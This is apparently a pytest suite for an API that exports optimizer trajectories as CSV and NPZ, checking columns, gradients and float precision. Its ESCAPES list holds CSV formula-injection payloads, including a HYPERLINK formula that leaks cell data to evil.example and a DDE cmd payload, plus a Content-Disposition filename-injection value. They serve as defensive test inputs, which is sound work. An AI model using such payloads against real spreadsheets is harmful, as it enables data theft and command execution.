"""CSV as other programs read it: every number that was asked for, in its own precision."""

import csv
import io

import numpy as np
import pytest

from tests.api.asking import URL

RUNS = [
    {"optimizer": {"id": "momentum", "learning_rate": 0.05}},
    {"optimizer": {"id": "adam", "learning_rate": 0.1}, "regularization": {"l2": 0.25}},
]


def asked(client, media_type, **more):
    body = {"surface": {"id": "bowl"}, "steps": 6, "runs": RUNS, **more}
    answer = client.post(URL, json=body, headers={"Accept": media_type})
    assert answer.status_code == 200, answer.text
    return answer


def table(client, **more):
    return list(csv.DictReader(io.StringIO(asked(client, "text/csv", **more).text, newline="")))


def column(rows, run, name):
    return [row[name] for row in rows if row["run"] == str(run)]


def numbers(rows, run, name):
    return [float(cell) for cell in column(rows, run, name)]


def test_columns_are_those_that_were_asked_for(client):
    head = "run,label,start,step,x,y,loss,gradient_norm,learning_rate,clipped"
    plain = asked(client, "text/csv", runs=RUNS[:1]).text.splitlines()[0]
    assert plain == head
    everything = asked(client, "text/csv", include=["gradient", "state", "hessian"]).text
    assert everything.splitlines()[0] == (
        f"{head},surface_loss,gradient_x,gradient_y,state_v_x,state_v_y,state_G_x,state_G_y,"
        "hessian_smaller,hessian_larger"
    )


def test_gradient_state_and_surface_loss_are_those_of_the_bowl(client):
    """(x² + 10y²)/2: everything in a row follows from its x and y."""
    rows = table(client, include=["gradient", "state", "hessian"])
    x, y = np.array(numbers(rows, 0, "x")), np.array(numbers(rows, 0, "y"))
    np.testing.assert_allclose(numbers(rows, 0, "gradient_x"), x, rtol=1e-15)
    np.testing.assert_allclose(numbers(rows, 0, "gradient_y"), 10 * y, rtol=1e-15)
    # v is the last move; the start has none.
    assert column(rows, 0, "state_v_x")[0] == ""
    v = [float(cell) for cell in column(rows, 0, "state_v_x")[1:]]
    np.testing.assert_allclose(v, np.diff(x), rtol=1e-13)
    assert set(column(rows, 0, "state_G_x")) == set(column(rows, 0, "surface_loss")) == {""}
    np.testing.assert_allclose(numbers(rows, 0, "hessian_larger"), 10, rtol=1e-12)
    x, y = np.array(numbers(rows, 1, "x")), np.array(numbers(rows, 1, "y"))
    np.testing.assert_allclose(numbers(rows, 1, "surface_loss"), (x**2 + 10 * y**2) / 2, rtol=1e-14)
    penalised = (x**2 + 10 * y**2) / 2 + 0.25 / 2 * (x**2 + y**2)
    np.testing.assert_allclose(numbers(rows, 1, "loss"), penalised, rtol=1e-14)


@pytest.mark.parametrize("precision", ["float32", "float64"])
def test_numbers_read_back_exactly_and_no_digit_is_made_up(client, precision):
    rows = table(client, precision=precision, include=["gradient"])
    archive = np.load(io.BytesIO(asked(client, "application/x-npz", precision=precision).content))
    for name in ("x", "y", "loss", "gradient_norm", "gradient_x"):
        exact = archive[f"run1_start0_{name}"]
        assert exact.dtype == precision
        cells = column(rows, 1, name)
        assert (np.array(cells).astype(precision) == exact).all()
        digits = 9 if precision == "float32" else 17
        assert (
            max(len(cell.split("e")[0].strip("-0.").replace(".", "")) for cell in cells) <= digits
        )


ESCAPES = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "Adam;=1+1",
    "Adam\t@x",
    "Adam\r\n-1",
    '";=1',
]


@pytest.mark.parametrize("label", ESCAPES)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_label_is_a_formula_whatever_parts_cells(client, label, delimiter):
    """As the standard reader parts cells: by commas, or as spreadsheets of other languages do."""
    text = asked(client, "text/csv", runs=[{**RUNS[0], "label": label}]).text
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    for cell in (cell for row in rows for cell in row):
        is_number = cell.lstrip("+-")[:1].isdigit() and delimiter == ","
        assert is_number or cell.lstrip(' "')[:1] not in [*"=+-@＝＋－＠\t\r\n"] or not cell


@pytest.mark.parametrize("label", ["Adam", "α = 0.1, β₁ = 0.9", "a-b", "мой прогон", "x=1;y=2"])
def test_other_labels_and_negative_numbers_stay_as_they_are(client, label):
    rows = table(client, runs=[{**RUNS[0], "label": label}], starts=[[-1.5, -1]])
    assert {row["label"] for row in rows} == {label}
    assert rows[0]["x"] == "-1.5"


def test_a_table_is_saved_under_a_name_of_ours(client):
    for media_type, name in (("text/csv", "csv"), ("application/x-npz", "npz")):
        told = asked(client, media_type, runs=[{**RUNS[0], "label": 'x"; filename="evil.exe'}])
        assert told.headers["content-disposition"] == f'attachment; filename="trajectories.{name}"'
